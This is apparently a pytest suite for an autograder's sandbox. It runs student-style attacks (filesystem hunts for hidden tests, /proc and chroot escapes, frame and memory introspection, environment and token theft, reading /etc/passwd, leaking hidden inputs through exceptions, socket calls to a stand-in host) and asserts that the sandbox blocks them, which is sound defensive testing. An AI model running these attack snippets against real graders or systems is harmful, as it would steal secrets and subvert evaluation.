"""Lines 1 to 13 of the notes: reading hidden tests, solutions, labels, other people's work, the environment.

The loot of each attack is what the student's process itself found; a fixture of the hidden tests brings it to
the instructor's log, so that an attack is seen to fail, not only to be silenced.
"""

from __future__ import annotations

import os
import socket
import subprocess
import sys
from ast import literal_eval

import pytest
from arena import CANARY, HIDDEN_NUMBER, LOOTING, WRONG, Arena, naive
from sandboxing import limits, run_cell, sandbox
from special_courses import with_tests

from autograder.sandbox import SandboxSpec

# Lines 1, 7, 8: files


def file_hunt(arena: Arena) -> str:
    """Reads every file of the course by its path, and whatever a walk from here and from the root finds."""
    return (
        LOOTING
        + f"""
import os
def look(path):
    try: loot(open(path, errors="replace").read(200_000))
    except OSError: pass
for folder in (".", "..", {str(arena.course.root)!r}, {str(arena.victim)!r}):
    for here, _, names in os.walk(folder):
        for name in names: look(os.path.join(here, name))
for start in ("/home", "/etc", "/dev/shm", "/srv", "/mnt"):
    for here, _, names in os.walk(start):
        for name in names[:50]: look(os.path.join(here, name))
        if len(LOOT) > 50 or here.count("/") > 6: break
"""
    )


def test_files_of_the_course(arena: Arena) -> None:
    """1, 8: hidden tests in the working directory, source/, submitted/, gradebook.db, .git."""
    arena.attack(file_hunt(arena))
    found = " ".join(arena.grade(file_hunt(arena), solutions=WRONG, off=["mount", "landlock"]).loot)
    for secret in ("module", "solution", "sibling", "gradebook", "token", "label-file"):
        assert f"{CANARY}-{secret}" in found


def test_a_child_that_walks_the_file_system(arena: Arena) -> None:
    """7: another program, which knows nothing of Python's walls."""
    hunt = (
        LOOTING
        + f"""
import subprocess
grep = ["grep", "-rIs", "-m1", NEEDLE[:0:-1], {str(arena.course.root)!r}, "/home", "/tmp", "/var/tmp"]
loot(subprocess.run(grep, capture_output=True, text=True).stdout)
"""
    )
    arena.attack(hunt)
    assert any(
        CANARY in found for found in arena.grade(hunt, solutions=WRONG, off=["mount", "landlock"]).loot
    )


def test_ways_out_of_the_root(arena: Arena) -> None:
    """7: descriptors of folders outside, /proc/1/root, chroot, .. without end."""
    secret = str(arena.course.hidden_tests("mini") / "labels.txt")
    escape = (
        LOOTING
        + f"""
import os
ways = ["/proc/1/root", "/proc/self/root", "/proc/1/cwd", "../" * 40]
ways += ["/proc/self/fd/" + fd for fd in os.listdir("/proc/self/fd")]
ways += ["/proc/1/fd/%d" % fd for fd in range(64)]
for way in ways:
    try: loot(open(way + {secret!r}).read())
    except OSError: pass
for fd in range(256):
    try: loot(open(os.open({secret!r}.lstrip("/"), os.O_RDONLY, dir_fd=fd)).read())
    except OSError: pass
try:
    os.chroot("/tmp")
    LOOT.append(NEEDLE[::-1] + "chroot")
except OSError: pass
"""
    )
    arena.attack(escape)
    assert arena.grade(escape, solutions=WRONG, off=["mount", "landlock"]).loot


# Lines 2 to 5: Python's own windows into whoever calls

INTROSPECTION = {
    "2 locals of the callers": """
frame = sys._getframe()
while frame:
    for value in list(frame.f_locals.values()) + list(frame.f_globals.values()):
        if isinstance(value, (str, int, float)): loot(value)
    frame = frame.f_back
""",
    "3 constants of the callers": """
frame = sys._getframe()
while frame:
    loot(repr(frame.f_code.co_consts))
    frame = frame.f_back
""",
    "4 all objects": """
for thing in gc.get_objects():
    if type(thing) in (dict, list, tuple, set):
        try:
            for value in thing.values() if type(thing) is dict else thing:
                if type(value) is str: loot(value)
        except Exception: pass
    elif type(thing) is type(standardise):
        loot(repr(thing.__code__.co_consts))
""",
    "5 source of what is loaded": """
for lines in list(linecache.cache.values()):
    loot("".join(lines[2]) if len(lines) > 2 else "")
frame = sys._getframe()
while frame:
    try: loot(inspect.getsource(frame.f_code))
    except Exception: pass
    frame = frame.f_back
""",
}


@pytest.mark.parametrize("technique", INTROSPECTION)
def test_introspection(arena: Arena, technique: str) -> None:
    """2 to 5: the tests are in another process; there is no frame, object or cached line of theirs."""
    body = "    ".join(INTROSPECTION[technique].strip().splitlines(keepends=True))
    tools = LOOTING + "import gc, inspect, linecache, sys\n"
    attack = {"standardise": f"def standardise(x):\n    {body}\n    if LOOT: print(LOOT)\n    return x"}
    arena.attack(tools, solutions=attack)
    assert CANARY in naive(tools, solutions=attack)["text"]


def test_history_and_database_of_ipython(arena: Arena) -> None:
    """5: In, Out, the history's database. Nothing to win here: the grader runs no cells of its own."""
    arena.attack(
        LOOTING,
        last=[
            """
            import glob, os
            shell = get_ipython()
            for text in [*In, *map(repr, Out.values()), shell.history_manager.hist_file]: loot(str(text))
            for entry in shell.history_manager.get_tail(10_000, include_latest=True): loot(repr(entry))
            for path in glob.glob(os.path.expanduser("~/.ipython/**/*"), recursive=True):
                if os.path.isfile(path): loot(open(path, "rb").read().decode(errors="replace"))
            """
        ],
    )


# Line 6, 12: processes and environments

PROCESS_HUNT = (
    LOOTING
    + """
import os
for pid in [p for p in os.listdir("/proc") if p.isdigit()]:
    for name in ("cmdline", "environ", "maps", "comm", "mountinfo", "stack", "cgroup"):
        try: loot(open(f"/proc/{pid}/{name}", errors="replace").read().replace("\\0", " "))
        except OSError: pass
    try:
        for fd in os.listdir(f"/proc/{pid}/fd"):
            loot(os.readlink(f"/proc/{pid}/fd/{fd}"))
    except OSError: pass
loot(repr(dict(os.environ)))
for path in ("/proc/keys", "/proc/key-users", "/proc/self/attr/current", "/proc/mounts", "/proc/net/unix"):
    try: loot(open(path).read())
    except OSError: pass
"""
)


def test_other_processes(arena: Arena) -> None:
    """6: command lines, environments, descriptors and maps of parents and siblings."""
    arena.attack(PROCESS_HUNT)
    # An ordinary child of the grader, which sees the machine's processes.
    child = subprocess.run(
        [sys.executable, "-c", PROCESS_HUNT + "print(LOOT)"], capture_output=True, text=True
    )
    assert f"{CANARY}-command-line" in child.stdout
    assert f"{CANARY}-environment" in child.stdout


def test_tokens_in_the_environment(arena: Arena) -> None:
    """12: an ordinary child of the grader inherits its environment; a session inherits none of it."""
    hunt = (
        LOOTING
        + "import os\nloot(repr(dict(os.environ)))\nloot(open('/proc/self/environ').read())\nprint(LOOT)"
    )
    arena.attack(hunt)
    child = subprocess.run([sys.executable, "-c", hunt], capture_output=True, text=True, check=True)
    assert f"{CANARY}-environment" in child.stdout


def test_memory_that_the_fork_inherits(arena: Arena) -> None:
    """6: the warm parent's memory is in every session. It holds no canary and no path of the course."""
    scan = """
import re
# A needle as one piece is nowhere in this process, not even in memory that was freed, or the scan would find
# itself: its letters come as numbers and stand in the expression one by one, as \\x2f\\x76.
needles = [re.compile(b"".join(b"\\\\x%%02x" %% letter for letter in letters)) for letters in %r]
def scan(part, parts):
    found = []
    for number, line in enumerate(open("/proc/self/maps")):
        if number %% parts != part: continue
        bounds = re.match(r"([0-9a-f]+)-([0-9a-f]+) rw", line)
        if not bounds: continue
        start, end = int(bounds[1], 16), int(bounds[2], 16)
        with open("/proc/self/mem", "rb", 0) as memory:
            try:
                memory.seek(start)
                data = memory.read(end - start)
            except OSError: continue
        for which, needle in enumerate(needles):
            hit = needle.search(data)
            if hit: found.append("needle %%d: %%r" %% (which, list(data[max(hit.start() - 40, 0) : hit.end() + 60])))
    return found
"""
    parts = 6  # each in a cell of its own, well within the time of a cell on a busy machine
    scans = [f"HITS = scan({part}, {parts})\nprint('scanned', len(HITS), HITS)" for part in range(parts)]
    needles = [f"{CANARY}-".encode(), str(arena.course.root).encode(), b"/submitted/", b"kernel_class"]
    code = scan % [list(needle) for needle in needles]
    # The grader has handled secrets before: the solution, a sibling's hand-in, this very course.
    arena.grade()
    result = arena.attack(code, *scans)
    assert result.grade.notebook.count("scanned") >= 2 * parts  # in the cells and in their outputs
    assert "needle 0" not in result.grade.notebook
    assert "needle 1" not in result.grade.notebook
    assert "needle 2" not in result.grade.notebook
    assert "needle 3" in result.grade.notebook  # the scan finds what is there


# Line 9, 10: what comes back


LEAKS = {
    "a message of its own": "raise ValueError(repr(x))",
    "the name of an exception": "raise type('X' + str(x.ravel()[0]).replace('.', '_'), (Exception,), {})()",
    "a missing name": "exec('a' + str(x.ravel()[0]).replace('.', '_'))",
    "printed output": "print(repr(x), flush=True); display(repr(x)); import sys; print(x, file=sys.stderr)",
    "a warning": "import warnings; warnings.warn(repr(x)); import logging; logging.error(repr(x))",
    "an answer of text": "return repr(x)",
    "a type's name": "return type('X' + str(x.ravel()[0]), (), {})()",
    "a dictionary": "return {str(x): 1}",
    "an absurd shape": "return np.zeros((int(x.ravel()[0]), 1))",
    "a key error": "return {}[str(x.ravel()[0])]",
    "an index": "return [][int(x.ravel()[0])]",
    "a note": "e = ValueError(); e.add_note(repr(x)); raise e",
    "a cause": "raise ValueError('a') from KeyError(repr(x))",
    "a traceback of its own": "exec(compile('\\n' * int(x[0, 0] if x.ndim > 1 else x[0]) + 'raise ValueError(x)', '<' + repr(x) + '>', 'exec'))",
}


@pytest.mark.parametrize("leak", LEAKS)
def test_hidden_inputs_do_not_come_back(arena: Arena, leak: str) -> None:
    """9: an attack that carries the inputs out by what it raises, prints or returns."""
    body = LEAKS[leak]
    attack = {
        "standardise": f"def standardise(x):\n    x = x[:2]\n    {body}",
        "moving_average": f"def moving_average(x, width):\n    x = x[:2]\n    {body}",
    }
    result = arena.attack(solutions=attack)
    for trace in (str(HIDDEN_NUMBER), "27182", "8125"):
        assert trace not in result.shown
        assert trace not in str(result.grade.notices)


def test_the_naive_grader_shows_them() -> None:
    """9: what the attacks above win where a student reads the exception of a test."""
    body = "def standardise(x):\n    raise ValueError(x[0, 1])"
    assert str(HIDDEN_NUMBER) in naive(solutions={"standardise": body})["text"]


def test_assertions_and_prints_of_tests_reach_the_instructor_only(arena: Arena) -> None:
    """9: the text of an assertion, expected values, what a test prints."""
    result = arena.attack()
    assert f"{CANARY}-printed" in result.grade.log
    assert f"{CANARY}-assertion" in result.grade.log


def test_feedback_is_no_oracle(arena: Arena) -> None:
    """10: two wrong answers, one nearly right, read the same; and the same hand-in always does."""
    near = "def standardise(x):\n    return (x - x.mean(axis=0)) / x.std(axis=0) + 0.01"
    far = "def standardise(x):\n    return x * 1e6"
    shown = [
        [(i.score, i.status, i.message, [o.message for o in i.outcomes]) for i in result.grade.items]
        for result in (arena.attack(solutions={"standardise": code}) for code in (near, far, far))
    ]
    assert shown[0] == shown[1] == shown[2]


# Line 11: carrying out


def test_connections_to_the_machine(arena: Arena) -> None:
    """11: TCP, a name, a Unix socket, an abstract one, a datagram."""
    with socket.create_server(("127.0.0.1", 0)) as server, socket.socket(socket.AF_UNIX) as abstract:
        name = f"\0attack-{os.getpid()}"
        abstract.bind(name)
        path = arena.victim / "socket"
        with socket.socket(socket.AF_UNIX) as named:
            named.bind(str(path))
            path.chmod(0o777)
            for listening in (abstract, named, server):
                listening.listen()
                listening.settimeout(0)
            call = f"""
import socket
targets = [(socket.AF_INET, ("127.0.0.1", {server.getsockname()[1]})), (socket.AF_UNIX, {name!r}),
           (socket.AF_UNIX, {str(path)!r}), (socket.AF_INET, ("192.0.2.1", 53))]
held = []
for family, address in targets:
    s = socket.socket(family)
    s.settimeout(0.3)
    try: s.connect(address); held.append(s); s.send(b"loot")
    except OSError: pass
try: socket.getaddrinfo("loot.example.org", 80)
except OSError: pass
"""
            try:
                arena.attack(call)
                assert [_connected(each) for each in (server, abstract, named)] == [False, False, False]
                arena.grade(call, solutions=WRONG, off=["net", "mount", "landlock"])
                assert [_connected(each) for each in (server, abstract, named)] == [True, True, True]
            finally:
                path.unlink()


def _connected(server: socket.socket) -> bool:
    try:
        server.accept()[0].close()
    except BlockingIOError:
        return False
    return True


MEET = """
import os, socket, time
paths = ["/tmp/meet", "/dev/shm/meet", "/var/tmp/meet", "meet", os.path.expanduser("~/meet")]
me = socket.socket(socket.AF_UNIX, socket.SOCK_DGRAM)
me.bind("\\0meet-" + ME)
me.setblocking(False)
tcp = socket.create_server(("127.0.0.1", PORTS[ME]))
tcp.setblocking(False)
def meet():
    met = []
    for path in paths:
        try: open(path + ME, "w").write(ME)
        except OSError: pass
        if os.path.exists(path + OTHER): met.append(path)
    try: me.sendto(b"x", "\\0meet-" + OTHER); met.append("abstract socket")
    except OSError: pass
    try: socket.create_connection(("127.0.0.1", PORTS[OTHER]), 0.2); met.append("port")
    except OSError: pass
    for pid in [p for p in os.listdir("/proc") if p.isdigit()]:
        try: text = open("/proc/" + pid + "/environ").read()
        except OSError: continue
        if "I_AM_" + OTHER in text: met.append("process " + pid)
    return met
"""


def _meeting(off: tuple[str, ...]) -> list[str]:
    """Two sandboxes at the same time, over every channel that two processes could share: what they met on."""
    spec = SandboxSpec(limits=limits(), layers_off=frozenset(off))
    ports = {"a": _free_port(), "b": _free_port()}
    with sandbox(spec) as (first, _), sandbox(spec) as (second, _):
        for client, me, other in ((first, "a", "b"), (second, "b", "a")):
            run_cell(client, f"ME, OTHER, PORTS = {me!r}, {other!r}, {ports}" + MEET + "meet()")
        return [*literal_eval(run_cell(first, "meet()")), *literal_eval(run_cell(second, "meet()"))]


def _free_port() -> int:
    with socket.create_server(("127.0.0.1", 0)) as server:
        return int(server.getsockname()[1])


def test_two_sessions_at_once_do_not_meet() -> None:
    """11: files, shared memory, ports, abstract sockets, each other's processes."""
    assert _meeting(off=()) == []
    assert {"abstract socket", "port"} <= set(_meeting(off=("net", "landlock")))


def test_nothing_is_left_for_the_next(arena: Arena) -> None:
    """11: files, shared memory and sockets left by one session for another."""
    leave = """
import os
from multiprocessing import shared_memory
for folder in ("/tmp", "/dev/shm", "/var/tmp", ".", os.path.expanduser("~")):
    try: open(folder + "/left-by-mallory", "w").write("loot")
    except OSError: pass
keep = shared_memory.SharedMemory("mallory", create=True, size=64)
"""
    look = (
        LOOTING
        + """
import glob, os
for folder in ("/tmp", "/dev/shm", "/var/tmp", ".", os.path.expanduser("~")):
    for path in glob.glob(folder + "/*mallory*"): LOOT.append(NEEDLE[::-1] + path)
"""
    )
    arena.attack(leave)
    arena.attack(look)
    # Dangerous without walls: the files would stay on this machine. test_sandbox_walls shows the same in both forms.


# Line 13: links


def test_links_in_the_scratch_folder(arena: Arena) -> None:
    """13: what the grader fetches from the scratch folder are regular files of the student's, nothing else."""
    secret = str(arena.course.hidden_tests("mini") / "labels.txt")
    links = f"""
import os, socket
os.makedirs("logs", exist_ok=True)
os.symlink({secret!r}, "logs/link")
os.symlink("/etc/passwd", "logs/passwd")
os.symlink("/", "logs/root")
os.mkfifo("logs/fifo")
socket.socket(socket.AF_UNIX).bind("logs/socket")
try: os.link("/etc/passwd", "logs/hard")
except OSError: pass
open("logs/new\\nline", "w").write("odd")
open("logs/honest", "w").write("1")
open(b"logs/\\xff", "w").write("2")
"""
    tests = """
@pytest.mark.item("standardise-values")
def test_files(student):
    '''Files.'''
    print("FILES", sorted(student.read_files("logs")))
    assert False

@pytest.mark.item("average-values")
def test_nothing(student):
    '''Nothing.'''
    assert False
"""
    result = arena.attack(links, course=with_tests(arena.course, tests))
    assert f"FILES {['honest', 'new' + chr(10) + 'line', chr(0xFFFD)]}" in result.grade.log
